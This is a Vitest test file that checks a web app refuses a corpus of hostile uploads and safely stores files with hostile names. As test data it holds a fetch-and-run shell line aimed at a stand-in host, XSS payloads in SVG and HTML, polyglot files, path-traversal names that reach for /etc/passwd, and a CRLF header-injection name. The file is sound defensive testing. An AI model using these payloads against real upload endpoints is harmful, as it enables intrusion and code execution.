import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pdfOf, PDF_CATALOG, PDF_PAGES } from '../test/hostile-files.ts';
import { clientBody, editableFields, multipartPayload, sampleFiles, twoTenants } from '../test/people-factories.ts';
import type { UploadFile } from '../test/people-factories.ts';
import { createTestApp, type TestContext } from '../test/test-app.ts';

/**
 * The hostile uploads corpus (issue 16, decision 054): every file an attacker would try, sent as a client
 * attachment. Hostile contents: 0 stored (no row, no blob, no staged file), 0 answers ≥ 500. Hostile names on
 * a harmless file: stored only under a UUID and downloaded as an attachment with nosniff.
 */
const bytes = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>';
const HTML = '<!doctype html><html><body><script>fetch("/web/listadoperfil")</script></body></html>';

/** [label, files of one request]. */
const HOSTILE: [string, UploadFile[]][] = [
  ['a Windows executable named .pdf', [{ name: 'lab.pdf', data: bytes('MZ\x90\x00\x03\x00\x00\x00PE\x00\x00') }]],
  ['an ELF binary named .jpg', [{ name: 'photo.jpg', data: bytes('\x7fELF\x02\x01\x01\x00'.padEnd(64, '\x00')) }]],
  ['a shell script named .png', [{ name: 'scan.png', data: bytes('#!/bin/sh\ncurl evil.example | sh\n') }]],
  ['a ZIP (a .docx) named .pdf', [{ name: 'informe.pdf', data: bytes('PK\x03\x04\x14\x00\x06\x00') }]],
  ['an HTML page named .png', [{ name: 'x.png', data: bytes(HTML) }]],
  ['an SVG with script', [{ name: 'logo.svg', data: bytes(SVG) }]],
  ['an SVG with script named .png', [{ name: 'logo.png', data: bytes(SVG) }]],
  ['a PDF/HTML polyglot', [{ name: 'a.pdf', data: bytes(`%PDF-1.4\n${HTML}`) }]],
  ['a JPEG/HTML polyglot', [{ name: 'a.jpg', data: bytes(`\xff\xd8\xff\xe0${HTML}`) }]],
  ['a PNG/ZIP polyglot', [{ name: 'a.png', data: bytes('\x89PNG\r\n\x1a\nPK\x03\x04 not an image') }]],
  [
    'a PDF with JavaScript',
    [{ name: 'a.pdf', data: new Uint8Array(pdfOf(PDF_CATALOG, PDF_PAGES, '<< /S /JavaScript /JS (app.alert(1)) >>')) }],
  ],
  ['10,000,000 bytes', [{ name: 'big.pdf', data: sampleFiles.pdf(10_000_000) }]],
  ['an empty file', [{ name: 'empty.pdf', data: new Uint8Array(0) }]],
  ['50 files at once', Array.from({ length: 50 }, (_, i) => ({ name: `f${i}.pdf`, data: sampleFiles.pdf() }))],
];

const HOSTILE_NAMES = [
  '../../../../etc/passwd.pdf',
  '..\\..\\windows\\win.ini.pdf',
  '/absolute/path.pdf',
  'nul\u0000byte.pdf',
  'bell\u0007and\u001bescape.pdf',
  'a\r\nContent-Type: text/html\r\n\r\n<script>.pdf',
  '\u202egnp.exe.pdf',
  '"quoted"; filename=evil.html.pdf',
  `${'ñ'.repeat(400)}.pdf`,
];

let ctx: TestContext;
let t: Awaited<ReturnType<typeof twoTenants>>;
let uploads: string;
beforeAll(async () => {
  ctx = await createTestApp();
  t = await twoTenants(ctx);
  uploads = path.join(ctx.app.deps.config.dataDir, 'uploads');
});
afterAll(() => ctx?.close());

function upload(files: UploadFile[]) {
  const fields = {
    ...editableFields(clientBody(t.ids, t.owner.id)),
    id_usuario: t.client.id,
    email: t.client.email,
    id_uploader: t.owner.id,
    files_info: files.map(() => ({ title: 'Doc', description: 'd' })),
  };
  return multipartPayload(fields, files).then(({ payload, headers }) =>
    ctx.app.inject({ method: 'POST', url: '/web/editaperfil', headers: { ...t.owner.headers, ...headers }, payload }),
  );
}

const rows = () =>
  ctx.db.selectFrom('attachments').selectAll().where('user_id', '=', t.client.id).orderBy('id').execute();
async function filesIn(dir: string): Promise<string[]> {
  const entries = await readdir(path.join(uploads, dir), { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

describe('hostile uploads corpus', () => {
  it(`${HOSTILE.length} hostile requests: nothing stored, no 5xx, a translated refusal each`, async () => {
    const statuses: string[] = [];
    for (const [label, files] of HOSTILE) {
      const [before, blobs] = [await rows(), await filesIn('blobs')];
      const res = await upload(files);
      statuses.push(`${label}: ${res.statusCode}`);
      expect(res.statusCode, label).toBeGreaterThanOrEqual(400);
      expect(res.statusCode, label).toBeLessThan(500);
      expect(res.json(), label).toMatchObject({ error: { code: expect.any(String), message: expect.anything() } });
      expect(await rows(), `${label}: stored a row`).toEqual(before);
      expect(await filesIn('blobs'), `${label}: stored a blob`).toEqual(blobs);
      expect(await filesIn('tmp'), `${label}: left a staged file`).toEqual([]);
    }
    console.log(`Hostile uploads: ${HOSTILE.length} requests, 0 stored, 0 ≥ 500 — ${statuses.join('; ')}`);
  });

  it(`${HOSTILE_NAMES.length} hostile names on a plain PDF: stored under UUIDs only, downloaded as attachments`, async () => {
    const before = (await rows()).length;
    const res = await upload(HOSTILE_NAMES.map((name) => ({ name, data: sampleFiles.pdf() })));
    expect(res.statusCode, res.body).toBeLessThan(500);
    const stored = (await rows()).slice(before);
    // Refused whole (control characters) or stored: either way nothing lands outside the blob store.
    for (const file of [...(await filesIn('blobs')), ...(await filesIn('tmp'))])
      expect(path.relative(uploads, file)).not.toMatch(/^\.\.|etc|windows/);
    for (const row of stored) {
      expect(row.storage_key).toMatch(/^[0-9a-f-]{36}$/);
      // eslint-disable-next-line no-control-regex -- the point: no control character survives in a stored name
      expect(row.original_name).not.toMatch(/[\u0000-\u001f\u007f/\\]/);
      const dl = await ctx.app.inject({
        method: 'GET',
        url: `/web/attachments/${row.id}/download`,
        headers: t.owner.headers,
      });
      expect(dl.statusCode).toBe(200);
      expect(String(dl.headers['content-disposition'])).toMatch(/^attachment; /);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
    }
    console.log(
      `Hostile names: ${HOSTILE_NAMES.length} names in one request → ${res.statusCode}, ${stored.length} stored ` +
        `under UUIDs, every download attachment + nosniff`,
    );
  });
});
